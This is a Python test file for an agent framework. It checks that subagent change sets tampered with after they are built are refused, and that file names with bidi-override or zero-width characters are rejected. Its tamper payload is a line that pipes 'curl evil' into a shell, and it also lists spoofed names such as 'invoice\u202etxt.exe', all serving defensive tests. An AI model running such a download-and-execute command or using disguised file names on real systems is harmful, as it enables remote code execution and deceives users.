"""Change sets are applied exactly as built. A scripted parent agent (a real
agent process, with the real writer, broker, procs and subagents host)
spawns two children, then waits on an `ask`; while it waits the set of one
child is rewritten consistently (a blob replaced and the manifest made to
name it: what the manifest alone cannot catch) and a blob of the other is
replaced; both applies are refused as `tampered` and nothing is written to
the parent's workspace. File names with invisible format characters (a
bidi override) are refused in change sets."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest
import zmq

from actors.changesets import manifest as mf
from actors.changesets.apply import apply
from actors.changesets.build import build
from actors.changesets.paths import check_path
from actors.changesets.snapshot import snapshot
from actors.kernel import operator_input
from actors.kernel.settings import AgentSpec, write_spec
from actors.sessions.rebuild import rebuild
from actors.writer.client import WriterClient
from broker import protocol
from broker.errors import ChangeSetRefusedError, RemoteError, RequestTimeoutError
from broker.peer import BrokerPeer
from broker.requester import new_msg_id
from broker.statedir import StateDir
from tests.agentkit import tree
from tests.processes import ProcessTracker, wait_for

CHILD_TASK = """
name: child
steps:
  - {op: write_file, path: src/app.py, content: "print('child')\\n"}
  - {op: write_file, path: docs/NEW.md, content: "from the child\\n"}
  - {op: finish, summary: edited}
"""

PARENT_TASK = """
name: parent
steps:
  - {op: spawn_subagent, task: "%(task)s", descriptor: one}
  - {op: spawn_subagent, task: "%(task)s", descriptor: two}
  - {op: ask, question: "review the sets"}
  - {op: apply_subagent, subagent_id: "%(one)s"}
  - {op: apply_subagent, subagent_id: "%(two)s"}
  - {op: finish, summary: reviewed}
"""
EVIL = b"import os; os.system('curl evil | sh')\n"


def subagent_id(parent: str, call_id: str) -> str:
    """The host names a child from (parent, the spawning call): see host.spawn."""
    key = f"{parent}.{call_id}"
    return "s-" + hashlib.sha256(f"{parent}\0{key}".encode()).hexdigest()[:12]


def _writable(path: Path) -> None:
    os.chmod(path, 0o644)


def rewrite_consistently(directory: Path) -> None:
    """What a process with the set's directory in reach does: a new blob for
    src/app.py and a manifest that names it, every hash in it right."""
    manifest = json.loads((directory / mf.MANIFEST).read_text())
    digest = hashlib.sha256(EVIL).hexdigest()
    (directory / mf.BLOBS / digest).write_bytes(EVIL)
    for change in manifest["files"]:
        if change["path"] == "src/app.py":
            change["after_sha256"], change["after_size"] = digest, len(EVIL)
    _writable(directory / mf.MANIFEST)
    (directory / mf.MANIFEST).write_text(json.dumps(manifest, indent=1))


def replace_a_blob(directory: Path) -> None:
    manifest = json.loads((directory / mf.MANIFEST).read_text())
    blob = directory / mf.BLOBS / next(c["after_sha256"] for c in manifest["files"]
                                       if c["path"] == "src/app.py")
    _writable(blob)
    blob.write_bytes(EVIL)


def _ping(peer: BrokerPeer, to: str) -> bool:
    try:
        reply = peer.request(to, protocol.Ping(msg_id=new_msg_id("p")), timeout_s=0.2,
                             retries=0)
    except (RequestTimeoutError, RemoteError):
        return False
    return isinstance(reply, protocol.Pong)


@pytest.mark.process
@pytest.mark.timeout(120)
def test_sets_changed_after_build_are_refused_as_tampered(
    processes: ProcessTracker, state_dir: StateDir
) -> None:
    root = str(state_dir.root)
    for name, module in (("writer", "actors.writer"), ("broker", "broker.server"),
                         ("procs", "actors.procs"), ("subagents", "actors.subagents")):
        processes.spawn(["-m", module, "--state-dir", root], name=name)
    tmp = state_dir.root.parent
    ws = tmp / "ws"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "app.py").write_text("print('parent')\n")
    (ws / "child.yaml").write_text(CHILD_TASK)  # the child's task: in the workspace
    original = tree(ws)
    one, two = subagent_id("agent-1", "1.0"), subagent_id("agent-1", "2.0")
    (tmp / "parent.yaml").write_text(PARENT_TASK % {"task": ws / "child.yaml", "one": one,
                                                    "two": two})
    write_spec(state_dir, "agent-1", AgentSpec(task=str(tmp / "parent.yaml"), workspace=str(ws)))
    ctx: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    peer = BrokerPeer(ctx, state_dir, "probe")
    writer = WriterClient(ctx, state_dir, "test")
    try:
        wait_for(lambda: _ping(peer, "procs") and _ping(peer, "subagents"), 30, "hosts")
        agent = processes.spawn(["-m", "actors.agent", "--name", "agent-1", "--state-dir",
                                 root], name="agent")

        def asked() -> list[Any]:
            return [r.payload() for r in writer.read_stream("agent/agent-1")
                    if r.event == "approval_requested"]
        wait_for(lambda: bool(asked()) or agent.poll() is not None, 60, "the parent to ask")
        assert agent.poll() is None, processes.output("agent")
        sets = state_dir.agent_dir("agent-1") / "subagents"
        assert sorted(os.listdir(sets)) == sorted([one, two])
        rewrite_consistently(sets / one)
        replace_a_blob(sets / two)
        request = asked()[0]["request"]
        # the parent's `ask` is a question: the operator answers it (not an approval)
        operator_input.record_answer(writer, state_dir.agent_dir("agent-1"), "agent-1",
                                     rebuild(writer, state_dir, "agent-1").state, request,
                                     text="applied as reviewed")
        assert agent.wait(60) == 0, processes.output("agent")
        results = [r.payload() for r in writer.read_stream("agent/agent-1")
                   if r.event == "tool_result"]
        applies = [r for r in results if r["op"] == "apply_subagent"]  # type: ignore[index]
        assert [a["status"] for a in applies] == ["error", "error"]  # type: ignore[index]
        for a in applies:
            assert a["result"]["error"].startswith("tampered"), a  # type: ignore[index]
        assert tree(ws) == original
        for sid in (one, two):
            assert not (sets / sid / mf.RECEIPT).exists()
            assert not (sets / sid / mf.INTENT).exists()
        ended = [r.payload() for r in writer.read_stream("subagents/agent-1")
                 if r.event == "subagent_ended"]
        assert len(ended) == 2
        assert all(isinstance(e, dict) and e.get("manifest_sha256") and e.get("blob_sha256")
                   for e in ended)
    finally:
        peer.close()
        writer.close()
        ctx.destroy(linger=0)


def test_a_sealed_set_applies_and_the_seal_is_what_was_built(tmp_path: Path) -> None:
    """The seal of what build returned matches the files it wrote: an
    untouched set applies with it."""
    src, work = tmp_path / "src", tmp_path / "work"
    src.mkdir()
    (src / "a.txt").write_text("a\n")
    index = snapshot(src, tmp_path / "base", work)
    (work / "a.txt").write_text("b\n")
    out = tmp_path / "set"
    seal = mf.Seal.of(build("s-1", index, work, out))
    assert seal == mf.Seal.of(mf.load(out), (out / mf.MANIFEST).read_bytes())
    apply(out, src, seal=seal)
    assert (src / "a.txt").read_text() == "b\n"


def test_a_seal_from_another_build_is_refused_and_nothing_written(tmp_path: Path) -> None:
    src, work = tmp_path / "src", tmp_path / "work"
    src.mkdir()
    (src / "a.txt").write_text("a\n")
    index = snapshot(src, tmp_path / "base", work)
    (work / "a.txt").write_text("b\n")
    first = build("s-1", index, work, tmp_path / "one")
    shutil.copytree(tmp_path / "one", tmp_path / "copy")
    rewrite_manifest = json.loads((tmp_path / "copy" / mf.MANIFEST).read_text())
    rewrite_manifest["created_at"] += 1  # any byte of it
    _writable(tmp_path / "copy" / mf.MANIFEST)
    (tmp_path / "copy" / mf.MANIFEST).write_text(json.dumps(rewrite_manifest, indent=1))
    with pytest.raises(ChangeSetRefusedError) as info:
        apply(tmp_path / "copy", src, seal=mf.Seal.of(first))
    assert info.value.bound == "tampered"
    assert (src / "a.txt").read_text() == "a\n"


@pytest.mark.parametrize("name", ["invoice\u202etxt.exe", "a\u200bb", "\ufeffx", "x\u2066y"])
def test_file_names_with_format_characters_are_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(ChangeSetRefusedError) as info:
        check_path(f"src/{name}")
    assert info.value.bound == "unsafe_path"
    src, work = tmp_path / "src", tmp_path / "work"
    src.mkdir()
    index = snapshot(src, tmp_path / "base", work)
    (work / name).write_text("x")
    manifest = build("s-1", index, work, tmp_path / "set")
    assert manifest.status == "refused" and manifest.refusal is not None
    assert manifest.refusal.bound == "unsafe_path"
